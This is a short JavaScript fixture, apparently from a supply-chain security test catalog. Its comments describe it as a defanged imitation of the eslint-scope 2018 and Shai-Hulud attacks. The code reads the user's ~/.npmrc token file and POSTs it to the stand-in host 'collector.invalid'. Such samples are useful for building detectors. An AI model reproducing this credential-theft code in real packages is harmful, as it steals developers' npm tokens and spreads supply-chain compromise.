// Mimics eslint-scope 2018 / Shai-Hulud: read ~/.npmrc and send it out (catalog §4.3–4.4).
// Defanged: .invalid host, never run by tests.
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');
const npmrc = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');
const req = https.request({ hostname: 'collector.invalid', path: '/c', method: 'POST' });
req.write(npmrc);
req.end();
